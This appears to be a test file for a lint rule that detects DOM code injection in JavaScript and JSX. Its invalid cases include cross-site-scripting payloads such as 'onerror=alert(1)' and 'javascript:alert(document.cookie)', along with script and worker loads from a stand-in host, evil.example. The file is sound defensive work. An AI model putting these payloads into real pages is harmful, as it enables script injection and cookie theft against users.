import rule from '../../rules/no-dom-code-injection.js';
import { ruleTester } from '../rule-tester.js';
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyze } from '../../analyzer/engine.js';
import { resolvePolicy } from '../../policy/index.js';

/** Findings under a profile's own defaults (the tester sets severities explicitly, which disables lowering). */
function underProfile(code: string, profile: 'strict' | 'audit' | 'recommended'): string[] {
  const report = analyze(code, { filename: 'test.js', policy: resolvePolicy({ profile }), rules: [rule] });
  return report.findings.filter((f) => f.ruleId === rule.id).map((f) => `${f.messageId}:${f.severity}`);
}

describe('no-dom-code-injection severities', () => {
  it('a script src at a constant URL is a warning outside strict; inline code stays an error', () => {
    const loader = "const s = document.createElement('script'); s.src = 'https://www.googletagmanager.com/gtag/js'; document.head.append(s);";
    assert.deepEqual(underProfile(loader, 'recommended'), ['scriptSrc:warn']);
    assert.deepEqual(underProfile(loader, 'strict'), ['scriptSrc:error']);
    assert.deepEqual(underProfile("const s = document.createElement('script'); s.src = URL.createObjectURL(blob)", 'recommended'), ['scriptSrc:error']);
    assert.deepEqual(underProfile("const s = document.createElement('script'); s.text = code", 'recommended'), ['scriptText:error']);
  });
});

ruleTester(rule, {
  valid: [
    // JSX handlers given functions, ordinary URLs, script elements that only load a file.
    { code: 'const a = <button onClick={() => go()} onMouseOver={handler} href="/next">x</button>;', filename: 'a.jsx' },
    { code: 'const ld = <script type="application/ld+json">{JSON.stringify(data)}</script>;', filename: 'a.jsx' },
    { code: 'const s = <script src="/app.js" />; const d = <div dangerouslySetInnerHTML={{ __html: "<b>hi</b>" }} />;', filename: 'a.jsx' },
    "const d = document.createElement('div'); d.textContent = userText",
    "const s = document.createElement('style'); s.textContent = css",
    "el.innerHTML = '<b>' + escape(name) + '</b>'",
    "el.innerHTML = '<a href=\"/home\">home</a>'",
    "el.innerHTML = '<div data-x=\"a onclick=b\" title=\"x\">'",
    "el.innerHTML = '<p>online = true, 1 < 2 onload=x</p>'",
    "a.href = 'javascript:void(0)'",
    "a.href = 'javascript:;'",
    "link.href = '/docs/' + page",
    "location.href = 'https://example.com/login'",
    "el.setAttribute('onclick', '')",
    "el.setAttribute('data-onclick', 'x()')",
    "el.addEventListener('click', () => run())",
    "el.onclick = () => run()",
    "document.write('<p>Hello</p>')",
    "const text = 'document.write(\"<script>\")'; // <img onerror=alert(1)>",
    "new Worker('worker.js')",
    "new Worker(new URL('./worker.js', import.meta.url), { type: 'module' })",
    "const { Worker } = require('worker_threads'); new Worker('https://x.example/a.js')",
    "importScripts('lib.js')",
    "navigator.serviceWorker.register('/sw.js')",
    "str.replace('javascript:', '')",
    "const doc = { write(x) {} }; doc.write('<script>alert(1)</script>')",
    "window.open('https://example.com', '_blank')",
    "const s = document.createElement('script'); s.type = 'module'; s.async = true",
  ],
  invalid: [
    // JSX rendered as HTML attributes: string handlers, javascript: URLs, script content, inline handlers in raw HTML.
    { code: 'const a = <img src="x" onError="alert(1)" />;', filename: 'a.jsx', errors: [{ messageId: 'jsxHandler', column: 24 }] },
    { code: 'const a = <a href={`javascript:${code}`}>x</a>;', filename: 'a.jsx', errors: [{ messageId: 'jsUrl', column: 14 }] },
    { code: 'const a = <script>{code}</script>;', filename: 'a.jsx', errors: [{ messageId: 'jsxScript', column: 11 }] },
    { code: 'const d = <div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=alert(1)>" }} />;', filename: 'a.jsx', errors: [{ messageId: 'inlineHandler', column: 16 }] },
    { code: "const s = document.createElement('script');\ns.text = payload;\ndocument.body.appendChild(s);", errors: [{ messageId: 'scriptText', line: 2, column: 1 }] },
    { code: "const s = document.createElement('SCRIPT'); s.textContent = code", errors: [{ messageId: 'scriptText', column: 45 }] },
    { code: "const t = 'scr' + 'ipt'; const s = document.createElement(t); s.innerText = code", errors: [{ messageId: 'scriptText', column: 63 }] },
    { code: "document.createElement('script').text = code", errors: [{ messageId: 'scriptText', column: 1 }] },
    { code: "const s = window.document['create' + 'Element']('script'); s.src = url", errors: [{ messageId: 'scriptSrc', column: 60 }] },
    { code: "const s = document.createElement('script'); s.src = 'https://cdn.example/x.js'", errors: [{ messageId: 'scriptSrc', column: 45, message: "'https://cdn.example/x.js'" }] },
    { code: "const s = document.createElement('script'); s.setAttribute('src', 'data:text/javascript,alert(1)')", errors: [{ messageId: 'scriptSrc', column: 45 }] },
    { code: "const s = document.createElement('script'); s.appendChild(document.createTextNode(code))", errors: [{ messageId: 'scriptText', column: 45 }] },
    { code: "const s = document.createElement('script'); s.append(code)", errors: [{ messageId: 'scriptText', column: 45 }] },
    { code: "document.head.appendChild(Object.assign(document.createElement('script'), { text: code }))", errors: [{ messageId: 'scriptText', column: 77 }] },
    { code: "document.write('<script src=\"https://evil.example/x.js\"></script>')", errors: [{ messageId: 'writeScript', column: 1 }] },
    { code: "document.writeln('<scr' + 'ipt>' + code + '</script>')", errors: [{ messageId: 'writeScript', column: 1 }] },
    { code: "const w = document.write.bind(document); window.document['write']('<script>' + c + '<\\/script>')", errors: [{ messageId: 'writeScript', column: 42 }] },
    { code: "location = 'javascript:alert(document.cookie)'", errors: [{ messageId: 'jsUrl', column: 1 }] },
    { code: "window.location.href = 'javascript:' + code", errors: [{ messageId: 'jsUrl', column: 1 }] },
    { code: "document.location = ' JAVA\\nSCRIPT:fetch(x)'", errors: [{ messageId: 'jsUrl', column: 1 }] },
    { code: "location.assign(`javascript:${code}`)", errors: [{ messageId: 'jsUrl', column: 1 }] },
    { code: "a.href = 'javascript:steal()'", errors: [{ messageId: 'jsUrl', column: 1 }] },
    { code: "iframe.src = 'javascript:parent.run()'", errors: [{ messageId: 'jsUrl', column: 1 }] },
    { code: "el.setAttribute('href', 'javascript:run()')", errors: [{ messageId: 'jsUrl', column: 1 }] },
    { code: "window.open('javascript:run()')", errors: [{ messageId: 'jsUrl', column: 1 }] },
    { code: "el.setAttribute('onclick', 'run()')", errors: [{ messageId: 'handlerAttribute', column: 1, message: "'onclick'" }] },
    { code: "const ev = 'on' + 'error'; img.setAttribute(ev, payload)", errors: [{ messageId: 'handlerAttribute', column: 28 }] },
    { code: "el.setAttributeNS(null, 'onload', code)", errors: [{ messageId: 'handlerAttribute', column: 1 }] },
    { code: "el.innerHTML = '<img src=x onerror=alert(1)>'", errors: [{ messageId: 'inlineHandler', column: 1 }] },
    { code: "el.innerHTML = `<svg/onload=${code}>`", errors: [{ messageId: 'inlineHandler', column: 1 }] },
    { code: "el.outerHTML = '<a href=\"javascript:run()\">x</a>'", errors: [{ messageId: 'jsUrl', column: 1 }] },
    { code: "el.insertAdjacentHTML('beforeend', '<body onload=\"' + code + '\">')", errors: [{ messageId: 'inlineHandler', column: 1 }] },
    { code: "iframe.srcdoc = '<script>' + code + '</script>'", errors: [{ messageId: 'writeScript', column: 1 }] },
    { code: "document.createRange().createContextualFragment('<script>' + code + '</script>')", errors: [{ messageId: 'writeScript', column: 1 }] },
    { code: "new Worker(URL.createObjectURL(new Blob([code])))", errors: [{ messageId: 'workerSource', column: 1 }] },
    { code: "const u = URL.createObjectURL(blob); new SharedWorker(u)", errors: [{ messageId: 'workerSource', column: 38 }] },
    { code: "new Worker('data:text/javascript,' + code)", errors: [{ messageId: 'workerSource', column: 1 }] },
    { code: "new window.Worker('https://evil.example/w.js')", errors: [{ messageId: 'workerSource', column: 1 }] },
    { code: "importScripts('https://evil.example/lib.js')", errors: [{ messageId: 'workerSource', column: 1 }] },
    { code: "navigator.serviceWorker.register(URL.createObjectURL(blob))", errors: [{ messageId: 'workerSource', column: 1 }] },
    { code: "el.setAttribute('onclick', 'run()')", profile: 'audit', errors: [{ messageId: 'handlerAttribute', severity: 'warn' }] },
  ],
});
